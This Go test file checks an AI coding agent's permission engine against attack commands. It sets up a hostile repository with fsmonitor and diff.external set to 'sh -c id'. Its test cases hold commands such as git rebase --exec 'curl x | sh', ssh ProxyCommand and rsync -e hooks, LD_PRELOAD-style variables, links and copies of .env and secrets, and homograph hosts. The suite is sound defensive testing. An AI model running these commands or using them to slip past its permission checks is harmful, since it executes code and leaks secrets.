package permission

import (
	"context"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/gantry-dev/gantry/tool"
)

// hookCase is an attack of classes 5–8 of issue 33 (git that runs
// programs, exec hooks and environment variables naming programs, links
// and moves of protected or denied files, Unicode hosts), decided in every
// mode it lists: never allow, with a reason naming one of words.
type hookCase struct {
	words            []string
	tool             string // "" for Bash
	cmd              string // a Bash command, or a WebFetch URL
	allow, deny, ask []string
	modes            []tool.Mode // nil: all five
}

// hooksWorld is securityWorld plus what a hostile repository may ship: a
// bare repository whose configuration runs a program, a directory whose
// .git file points at it, a vendored tree holding a repository, and other
// VCS metadata.
func hooksWorld(t testing.TB) world {
	t.Helper()
	w := securityWorld(t)
	bare := filepath.Join(w.work, "evil.git")
	for _, d := range []string{"objects", "refs/heads"} {
		must(t, os.MkdirAll(filepath.Join(bare, d), 0o755))
	}
	must(t, os.WriteFile(filepath.Join(bare, "HEAD"), []byte("ref: refs/heads/main\n"), 0o644))
	must(t, os.WriteFile(filepath.Join(bare, "config"), []byte("[core]\n\tbare = true\n\tfsmonitor = \"sh -c id\"\n"), 0o644))
	must(t, os.MkdirAll(filepath.Join(w.work, "linked"), 0o755))
	must(t, os.WriteFile(filepath.Join(w.work, "linked", ".git"), []byte("gitdir: ../evil.git\n"), 0o644))
	// A worktree whose git directory turns on per-worktree configuration.
	wt := filepath.Join(w.work, "wtgit")
	must(t, os.MkdirAll(wt, 0o755))
	must(t, os.WriteFile(filepath.Join(wt, "config"), []byte("[extensions]\n\tworktreeConfig = true\n"), 0o644))
	must(t, os.WriteFile(filepath.Join(wt, "config.worktree"), []byte("[diff]\n\texternal = sh -c id\n"), 0o644))
	must(t, os.MkdirAll(filepath.Join(w.work, "wt"), 0o755))
	must(t, os.WriteFile(filepath.Join(w.work, "wt", ".git"), []byte("gitdir: ../wtgit\n"), 0o644))
	must(t, os.MkdirAll(filepath.Join(w.work, "vendored", "lib", ".git"), 0o755))
	must(t, os.WriteFile(filepath.Join(w.work, "vendored", "lib", ".git", "config"), []byte("[core]\n"), 0o644))
	must(t, os.MkdirAll(filepath.Join(w.work, ".hg"), 0o755))
	must(t, os.WriteFile(filepath.Join(w.work, ".hg", "hgrc"), []byte("[hooks]\n"), 0o644))
	for _, f := range []string{".envrc", ".gitmodules", "x.tar"} {
		must(t, os.WriteFile(filepath.Join(w.work, f), []byte("x"), 0o644))
	}
	must(t, os.WriteFile(filepath.Join(w.work, ".git", "config"), []byte("[core]\n\tbare = false\n"), 0o644))
	return w
}

// programVars are environment variables that name a program, a loader, a
// library path or options for one: setting any of them is not understood.
var programVars = []string{"GIT_EXTERNAL_DIFF", "GIT_SSH", "GIT_SSH_COMMAND", "GIT_EDITOR", "GIT_PAGER", "GIT_ASKPASS",
	"GIT_DIR", "GIT_WORK_TREE", "GIT_CONFIG", "GIT_CONFIG_GLOBAL", "GIT_CONFIG_SYSTEM", "GIT_CONFIG_COUNT",
	"GIT_CONFIG_PARAMETERS", "GIT_EXEC_PATH", "GIT_TEMPLATE_DIR", "GIT_PROXY_COMMAND", "GIT_SEQUENCE_EDITOR",
	"SSH_ASKPASS", "EDITOR", "VISUAL", "PAGER", "MANPAGER", "LESSOPEN", "LESSCLOSE", "LESS", "BROWSER", "BASH_ENV",
	"ENV", "PROMPT_COMMAND", "PS4", "SHELLOPTS", "BASHOPTS", "LD_PRELOAD", "LD_LIBRARY_PATH", "LD_AUDIT",
	"PYTHONSTARTUP", "PYTHONPATH", "PYTHONHOME", "PERL5OPT", "PERL5LIB", "NODE_OPTIONS", "NODE_PATH", "RUBYOPT",
	"RUBYLIB", "IFS", "PATH", "CDPATH", "HOME", "TAR_OPTIONS", "GZIP", "XZ_OPT", "ZSTD_CLEVEL", "RSYNC_RSH",
	"SHELL", "TMPDIR", "GCONV_PATH", "LOCPATH", "NLSPATH", "TERMINFO", "MAKEFLAGS", "GOFLAGS", "CC", "SOME_UNKNOWN"}

func TestExecHooksAndLinks(t *testing.T) {
	w := hooksWorld(t)
	runs := []string{"runs", "not understood"}
	nu := []string{"not understood"}
	writes := []string{"writes"}
	reads := []string{"reads"}
	repo := []string{"run a program", "bare repository", "not understood"}
	denyRm := []string{"Bash(rm *)"}
	secrets := []string{"Read(./.env)", "Read(./secrets/**)"}
	cases := []hookCase{
		// 5. git that runs programs: exec options, repository selectors,
		// hooks. Wildcard allow rules for the subcommand do not approve.
		{words: runs, cmd: "git rebase --exec 'curl x | sh' main", allow: []string{"Bash(git rebase *)"}, modes: notBypass},
		{words: runs, cmd: "git rebase -x id main", allow: []string{"Bash(git rebase *)"}, modes: notBypass},
		{words: runs, cmd: "git rebase -ix id main", allow: []string{"Bash(git rebase *)"}, modes: notBypass},
		{words: runs, cmd: "git rebase --exe=id main", allow: []string{"Bash(git rebase *)"}, modes: notBypass},
		{words: runs, cmd: "git rebase -i HEAD~3", allow: []string{"Bash(git rebase *)"}, modes: notBypass},
		{words: runs, cmd: "git bisect run ./test.sh", allow: []string{"Bash(git bisect *)"}, modes: notBypass},
		{words: runs, cmd: "git submodule foreach 'id'", allow: []string{"Bash(git submodule *)"}, modes: notBypass},
		{words: runs, cmd: "git difftool --extcmd=id HEAD", allow: []string{"Bash(git difftool *)"}, modes: notBypass},
		{words: runs, cmd: "git difftool -x id HEAD", allow: []string{"Bash(git difftool *)"}, modes: notBypass},
		{words: runs, cmd: "git difftool --tool=vimdiff", allow: []string{"Bash(git difftool *)"}, modes: notBypass},
		{words: runs, cmd: "git mergetool", modes: notBypass},
		{words: runs, cmd: "git fetch --upload-pack='sh -c id' origin", allow: []string{"Bash(git fetch *)"}, modes: notBypass},
		{words: runs, cmd: "git clone -u 'sh -c id' https://x.io/r r", allow: []string{"Bash(git clone *)"}, modes: notBypass},
		{words: runs, cmd: "git clone --template=./tpl https://x.io/r r", allow: []string{"Bash(git clone *)"}, modes: notBypass},
		{words: runs, cmd: "git clone -c core.fsmonitor=id https://x.io/r r", allow: []string{"Bash(git clone *)"}, modes: notBypass},
		{words: runs, cmd: "git ls-remote --upload-pack=id origin", allow: []string{"Bash(git ls-remote *)"}, modes: notBypass},
		{words: runs, cmd: "git ls-remote -u id origin", allow: []string{"Bash(git ls-remote *)"}, modes: notBypass},
		{words: runs, cmd: "git pull --upload-pack=id origin main", allow: []string{"Bash(git pull *)"}, modes: notBypass},
		{words: runs, cmd: "git push --receive-pack=id origin", allow: []string{"Bash(git push *)"}, modes: notBypass},
		{words: runs, cmd: "git push --exec=id origin", allow: []string{"Bash(git push *)"}, modes: notBypass},
		{words: runs, cmd: "git send-pack --receive-pack=id x", modes: notBypass},
		{words: runs, cmd: "git archive --remote=x --exec=id HEAD", allow: []string{"Bash(git archive *)"}, modes: notBypass},
		{words: runs, cmd: "git filter-branch --tree-filter 'id' HEAD", allow: []string{"Bash(git filter-branch *)"}, modes: notBypass},
		{words: nu, cmd: "git -c alias.st='!sh -c id' st", modes: notBypass},
		{words: nu, cmd: "git -c core.sshCommand=id fetch", allow: []string{"Bash(git fetch *)"}, modes: notBypass},
		{words: nu, cmd: "git --config-env=core.pager=EVIL log", allow: []string{"Bash(git log *)"}, modes: notBypass},
		{words: runs, cmd: "git --exec-path=./bin log", allow: []string{"Bash(git log *)"}, modes: notBypass},
		{words: nu, cmd: "git --bare log", modes: notBypass},
		{words: nu, cmd: "git --git-dir=evil.git log", modes: notBypass},
		{words: nu, cmd: "git --work-tree=. --git-dir=evil.git status", modes: notBypass},
		{words: repo, cmd: "git -C evil.git log", modes: notBypass},
		{words: repo, cmd: "cd evil.git && git log", modes: notBypass},
		{words: repo, cmd: "git -C linked status", modes: notBypass},
		{words: repo, cmd: "cd wt && git diff", modes: notBypass},
		{words: nu, cmd: "GIT_DIR=evil.git git log", modes: notBypass},
		{words: nu, cmd: "env GIT_DIR=evil.git git log", modes: notBypass},
		// Writing subcommands run hooks: never an acceptEdits "edit".
		{words: runs, cmd: "git commit -m x", modes: notBypass},
		{words: runs, cmd: "git merge main", modes: notBypass},
		{words: runs, cmd: "git am x.patch", modes: notBypass},
		{words: runs, cmd: "git checkout -b x", modes: notBypass},
		// Deny rules see git's payloads, in every mode.
		{words: []string{"rule "}, cmd: "git rebase --exec 'rm -rf b' main", deny: denyRm},
		{words: []string{"rule "}, cmd: "git bisect run rm -rf b", deny: denyRm},
		{words: []string{"rule "}, cmd: "git submodule foreach --recursive 'rm -rf b'", deny: denyRm},
		{words: []string{"rule "}, cmd: "git difftool -x 'rm -rf b' HEAD", deny: denyRm},
		{words: []string{"rule "}, cmd: "git filter-branch --index-filter 'rm -rf b' HEAD", deny: denyRm},

		// 6. exec hooks of other tools.
		{words: runs, cmd: "tar --to-command='sh -c id' -xf x.tar", allow: []string{"Bash(tar *)"}, modes: notBypass},
		{words: runs, cmd: "tar -cf o.tar --checkpoint=1 --checkpoint-action=exec=id src", allow: []string{"Bash(tar *)"}, modes: notBypass},
		{words: runs, cmd: "tar -I 'sh -c id' -tf x.tar", allow: []string{"Bash(tar *)"}, modes: notBypass},
		{words: runs, cmd: "tar --use-compress-program=id -tf x.tar", modes: notBypass},
		{words: runs, cmd: "tar -tf x.tar -F ./s", modes: notBypass},
		{words: runs, cmd: "tar --info-script=./s -tf x.tar", modes: notBypass},
		{words: runs, cmd: "tar --new-volume-script=./s -tf x.tar", modes: notBypass},
		{words: runs, cmd: "tar --rsh-command=id -tf x.tar", modes: notBypass},
		{words: runs, cmd: "tar tf host:x.tar", modes: notBypass},
		{words: runs, cmd: "tar xOf x.tar --to-command=id", modes: notBypass},
		{words: nu, cmd: "tar -tf x.tar --frobnicate", modes: notBypass},
		{words: writes, cmd: "tar xf x.tar", allow: []string{"Bash(tar *)"}, modes: notBypass},
		{words: nu, cmd: "zip -TT 'sh -c id' a.zip src/a.go", modes: notBypass},
		{words: nu, cmd: "zip --unzip-command=id -T a.zip", modes: notBypass},
		{words: nu, cmd: "unzip -o a.zip", modes: notBypass},
		{words: nu, cmd: "7z x a.7z", modes: notBypass},
		{words: nu, cmd: "ssh -o ProxyCommand='sh -c id' host", modes: notBypass},
		{words: nu, cmd: "scp -o ProxyCommand=id a host:b", modes: notBypass},
		{words: nu, cmd: "sftp -F ./cfg host", modes: notBypass},
		{words: nu, cmd: "ssh -o LocalCommand=id -o PermitLocalCommand=yes host", modes: notBypass},
		{words: runs, cmd: "rsync -e 'sh -c id' src/ host:dst/", allow: []string{"Bash(rsync *)"}, modes: notBypass},
		{words: runs, cmd: "rsync -avze 'sh -c id' src/ dst/", allow: []string{"Bash(rsync *)"}, modes: notBypass},
		{words: runs, cmd: "rsync --rsh=id src/ host:dst/", allow: []string{"Bash(rsync *)"}, modes: notBypass},
		{words: nu, cmd: "sqlite3 db '.shell id'", modes: notBypass},
		{words: nu, cmd: "sqlite3 -cmd '.system id' db", modes: notBypass},
		{words: nu, cmd: "sqlite3 db '.output x'", modes: notBypass},
		{words: nu, cmd: "python3 -c 'import os'", modes: notBypass},
		{words: nu, cmd: "perl -e 'system 1'", modes: notBypass},
		{words: nu, cmd: "ruby -e x", modes: notBypass},
		{words: nu, cmd: "node -e x", modes: notBypass},
		{words: runs, cmd: "awk 'BEGIN{system(\"id\")}'", modes: notBypass},
		{words: nu, cmd: "less src/a.go", modes: notBypass},
		{words: nu, cmd: "more src/a.go", modes: notBypass},
		{words: nu, cmd: "man ls", modes: notBypass},
		{words: nu, cmd: "vim -c '!id' src/a.go", modes: notBypass},
		{words: writes, cmd: "find . -fprintf /tmp/x '%p'", allow: []string{"Bash(find *)"}, modes: notBypass},
		{words: nu, cmd: "make", modes: notBypass},
		{words: runs, cmd: "env -S 'sh -c id'", modes: notBypass},
		{words: runs, cmd: "env -S'sh -c id' true", modes: notBypass},
		{words: runs, cmd: "env --split-string='sh -c id' true", modes: notBypass},
		// Assignments with values that name a path.
		{words: nu, cmd: "LANG=/tmp/x ls", modes: notBypass},
		{words: nu, cmd: "LC_ALL=../loc ls", modes: notBypass},
		{words: nu, cmd: "TERM=../../t ls", modes: notBypass},
		{words: nu, cmd: "TZ=/etc/shadow date", modes: notBypass},
		{words: nu, cmd: "TZ=../../../.env date", modes: notBypass},
		{words: nu, cmd: "LANG=$X ls", modes: notBypass},
		// Assignments that precede no command: loop variables and
		// ${X:=v} to names that may be exported.
		{words: nu, cmd: "for PATH in ./bin; do ls; done", allow: []string{"Bash(ls *)"}, modes: notBypass},
		{words: nu, cmd: "for LD_PRELOAD in ./x.so; do ls; done", modes: notBypass},
		{words: nu, cmd: "select BASH_ENV in ./x; do ls; done", modes: notBypass},
		{words: nu, cmd: "[[ ${CDPATH:=/} ]] && cd etc && cat passwd", modes: notBypass},
		{words: nu, cmd: "case ${GIT_DIR=evil.git} in *) git log;; esac", modes: notBypass},

		// 7. links, copies-as-links and moves of protected paths.
		{words: writes, cmd: "ln .git/config cfg", allow: []string{"Bash(ln *)"}, modes: notBypass},
		{words: writes, cmd: "ln -s .git/hooks/pre-commit hook", allow: []string{"Bash(ln *)"}, modes: notBypass},
		{words: writes, cmd: "ln -s ../.envrc src/e", allow: []string{"Bash(ln *)"}, modes: notBypass},
		{words: writes, cmd: "cp -al .git gitcopy", modes: notBypass},
		{words: writes, cmd: "cp -l .git/config c", modes: notBypass},
		{words: writes, cmd: "cp --link .envrc e2", modes: notBypass},
		{words: writes, cmd: "cp -s .gitmodules gm", modes: notBypass},
		{words: writes, cmd: "cp --symbolic-link .hg/hgrc h", modes: notBypass},
		{words: writes, cmd: "cp .envrc src/", modes: notBypass},
		{words: writes, cmd: "cp -r vendored out", modes: notBypass},
		{words: writes, cmd: "cp -a . ../copy", modes: notBypass},
		{words: writes, cmd: "mv vendored v2", modes: notBypass},
		{words: writes, cmd: "mv .envrc x", modes: notBypass},
		{words: writes, cmd: "mv .gitmodules x", modes: notBypass},
		{words: writes, cmd: "mv .hg hg2", modes: notBypass},
		{words: writes, cmd: "git mv .envrc x", allow: []string{"Bash(git mv *)"}, modes: notBypass},
		{words: writes, cmd: "rsync -a --link-dest=../.git src/ dst/", allow: []string{"Bash(rsync *)"}, modes: notBypass},
		{words: writes, cmd: "install .git/config x", allow: []string{"Bash(install *)"}, modes: notBypass},
		{words: writes, cmd: "echo x > .hg/hgrc", modes: notBypass},
		{words: writes, cmd: "touch .hg/hooks/x", modes: notBypass},
		{words: writes, cmd: "mkdir .svn", modes: notBypass},
		{words: writes, cmd: "touch .bzr/x", modes: notBypass},
		{words: writes, cmd: "touch .jj/repo/config.toml", modes: notBypass},
		// Links and copies of Read-denied files are reads of them, in
		// every mode.
		{words: reads, cmd: "ln .env pub", deny: secrets},
		{words: reads, cmd: "ln -s ../.env src/x", deny: secrets},
		{words: reads, cmd: "cp -al secrets pub", deny: secrets},
		{words: reads, cmd: "cp -r secrets pub", deny: secrets},
		{words: reads, cmd: "cp -r . ../pub", deny: secrets},
		{words: reads, cmd: "mv secrets pub", deny: secrets},
		{words: reads, cmd: "rsync -a --link-dest=secrets src/ dst/", deny: secrets},
		{words: reads, cmd: "tar cf pub.tar secrets", deny: secrets},
		{words: reads, cmd: "git mv .env x", deny: secrets},

		// 8. Unicode and odd spellings of a denied host.
		{tool: "WebFetch", cmd: "https://ｅｘａｍｐｌｅ．ｃｏｍ/", words: []string{"domain:example.com"}, deny: []string{"WebFetch(domain:example.com)"}, allow: []string{"WebFetch(domain:*)"}},
		{tool: "WebFetch", cmd: "https://example。com/", words: []string{"domain:example.com"}, deny: []string{"WebFetch(domain:example.com)"}, allow: []string{"WebFetch(domain:*)"}},
		{tool: "WebFetch", cmd: "https://EXAMPLE.COM./", words: []string{"domain:example.com"}, deny: []string{"WebFetch(domain:example.com)"}, allow: []string{"WebFetch(domain:*)"}},
		{tool: "WebFetch", cmd: "https://docs.ｅｘａｍｐｌｅ.com/", words: []string{"domain:*.example.com"}, deny: []string{"WebFetch(domain:*.example.com)"}, allow: []string{"WebFetch(domain:*)"}},
		{tool: "WebFetch", cmd: "https://xn--bcher-kva.ch/", words: []string{"bücher"}, deny: []string{"WebFetch(domain:bücher.ch)"}, allow: []string{"WebFetch(domain:*)"}},
		{tool: "WebFetch", cmd: "https://BÜCHER.ch/", words: []string{"xn--bcher"}, deny: []string{"WebFetch(domain:xn--bcher-kva.ch)"}, allow: []string{"WebFetch(domain:*)"}},
		{tool: "WebFetch", cmd: "https://b%C3%BCcher.ch/", words: []string{"xn--bcher"}, deny: []string{"WebFetch(domain:xn--bcher-kva.ch)"}, allow: []string{"WebFetch(domain:*)"}},
		{tool: "WebFetch", cmd: "http://2130706433/", words: []string{"127.0.0.1"}, deny: []string{"WebFetch(domain:127.0.0.1)"}, allow: []string{"WebFetch(domain:*)"}},
		{tool: "WebFetch", cmd: "http://0177.0.0.1/", words: []string{"127.0.0.1"}, deny: []string{"WebFetch(domain:127.0.0.1)"}, allow: []string{"WebFetch(domain:*)"}},
		{tool: "WebFetch", cmd: "http://0x7f.1/", words: []string{"127.0.0.1"}, deny: []string{"WebFetch(domain:127.0.0.1)"}, allow: []string{"WebFetch(domain:*)"}},
		{tool: "WebFetch", cmd: "http://[::ffff:127.0.0.1]/", words: []string{"127.0.0.1"}, deny: []string{"WebFetch(domain:127.0.0.1)"}, allow: []string{"WebFetch(domain:*)"}},
		{tool: "WebFetch", cmd: "https://a..b/", words: []string{"not a valid host"}, allow: []string{"WebFetch(domain:*)"}},
		{tool: "WebFetch", cmd: "https://1.2.3.4.5/", words: []string{"not a valid host"}, allow: []string{"WebFetch(domain:*)"}},
		{tool: "WebFetch", cmd: "https://exa\u200dmple.com/", words: []string{"not a valid host"}, allow: []string{"WebFetch(domain:*)"}},
		// A homograph is another host: an allow for the ASCII name does
		// not approve it.
		{tool: "WebFetch", cmd: "https://pаypal.com/", words: []string{"needs permission", "plan mode"}, allow: []string{"WebFetch(domain:paypal.com)"}, modes: notBypass},
	}
	for _, v := range programVars {
		for _, form := range []string{"%s=x ls", "env %s=x ls", "export %s=x; ls", "declare -x %s=x; ls", "%s=x; ls"} {
			cmd := strings.ReplaceAll(form, "%s", v)
			cases = append(cases, hookCase{words: []string{"not understood", "runs"}, cmd: cmd, allow: []string{"Bash(ls *)"}, modes: notBypass})
		}
	}
	for _, tc := range cases {
		modes := tc.modes
		if modes == nil {
			modes = tool.Modes()
		}
		name := tc.tool
		if name == "" {
			name = "Bash"
		}
		for _, mode := range modes {
			t.Run(string(mode)+"/"+tc.cmd[:min(len(tc.cmd), 60)], func(t *testing.T) {
				d := decideHook(t, w, name, tc, mode)
				if d.Behavior == tool.Allow {
					t.Fatalf("allowed (%s, %s); want ask or deny", d.Reason, d.Source)
				}
				for _, wd := range tc.words {
					if strings.Contains(d.Reason, wd) {
						return
					}
				}
				t.Errorf("%s: reason %q names none of %q", d.Behavior, d.Reason, tc.words)
			})
		}
	}
}

func decideHook(t *testing.T, w world, name string, tc hookCase, mode tool.Mode) Decision {
	t.Helper()
	e, err := NewEngine(Options{
		Home: w.home, WorkDir: w.work,
		Rules: []RuleSet{{Source: "project", Root: w.work, Allow: tc.allow, Deny: tc.deny, Ask: tc.ask}},
	})
	if err != nil {
		t.Fatal(err)
	}
	input := bash(tc.cmd)
	if name == "WebFetch" {
		input = map[string]any{"url": tc.cmd, "prompt": "summarise"}
	}
	in, _ := json.Marshal(input)
	d, err := e.Decide(context.Background(), &Request{Tool: named(name), Name: name, Input: in, Env: &tool.Env{WorkDir: w.work, Mode: mode}})
	if err != nil {
		t.Fatal(err)
	}
	return d
}

// TestExecHooksControls: ordinary work in the same world still runs
// without a prompt.
func TestExecHooksControls(t *testing.T) {
	w := hooksWorld(t)
	for _, tc := range []struct {
		tool, cmd   string
		allow, deny []string
		mode        tool.Mode
	}{
		{cmd: "git status"},
		{cmd: "git diff"},
		{cmd: "git log -p"},
		{cmd: "git log --oneline -5"},
		{cmd: "git -C src status"},
		{cmd: "tar tf x.tar"},
		{cmd: "tar -tzvf x.tar"},
		{cmd: "tar -xOf x.tar a.txt"},
		{cmd: "LANG=C sort src/a.go"},
		{cmd: "LC_ALL=C.UTF-8 ls"},
		{cmd: "TZ=Europe/Paris date"},
		{cmd: "NO_COLOR=1 TERM=xterm-256color ls src"},
		{cmd: "env"},
		{cmd: "for f in src/a.go; do echo x; done"},
		{cmd: "cat .envrc", deny: []string{"Read(./.env)"}},
		{cmd: "cp src/a.go src/b.go", mode: tool.ModeAcceptEdits},
		{cmd: "cp -r src src2", mode: tool.ModeAcceptEdits},
		{cmd: "mv src/a.go src/c.go", mode: tool.ModeAcceptEdits},
		{cmd: "LANG=C mkdir d && cp src/a.go d/", mode: tool.ModeAcceptEdits},
		{tool: "WebFetch", cmd: "https://EXAMPLE.com/x", allow: []string{"WebFetch(domain:example.com)"}},
		{tool: "WebFetch", cmd: "https://ｅｘａｍｐｌｅ．ｃｏｍ/", allow: []string{"WebFetch(domain:example.com)"}},
		{tool: "WebFetch", cmd: "https://bücher.ch/", allow: []string{"WebFetch(domain:xn--bcher-kva.ch)"}},
		{tool: "WebFetch", cmd: "https://docs.go.dev/", allow: []string{"WebFetch(domain:*.go.dev)"}, deny: []string{"WebFetch(domain:example.com)"}},
	} {
		name := tc.tool
		if name == "" {
			name = "Bash"
		}
		mode := tc.mode
		if mode == "" {
			mode = tool.ModeDefault
		}
		t.Run(string(mode)+"/"+tc.cmd, func(t *testing.T) {
			d := decideHook(t, w, name, hookCase{cmd: tc.cmd, allow: tc.allow, deny: tc.deny}, mode)
			if d.Behavior != tool.Allow {
				t.Fatalf("%s: %s", d.Behavior, d.Reason)
			}
		})
	}
}
